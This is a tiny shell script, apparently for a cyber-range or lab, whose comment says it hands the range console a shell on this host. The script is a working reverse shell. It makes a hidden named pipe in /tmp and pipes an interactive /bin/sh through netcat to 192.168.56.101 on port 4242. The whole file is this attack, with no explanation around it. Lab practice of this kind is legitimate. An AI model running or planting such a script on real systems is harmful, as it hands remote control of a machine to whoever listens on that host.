#!/bin/sh
# hands the range console a shell on this host
CONSOLE=192.168.56.101
rm -f /tmp/.p; mkfifo /tmp/.p
cat /tmp/.p | /bin/sh -i 2>&1 | nc "$CONSOLE" 4242 > /tmp/.p
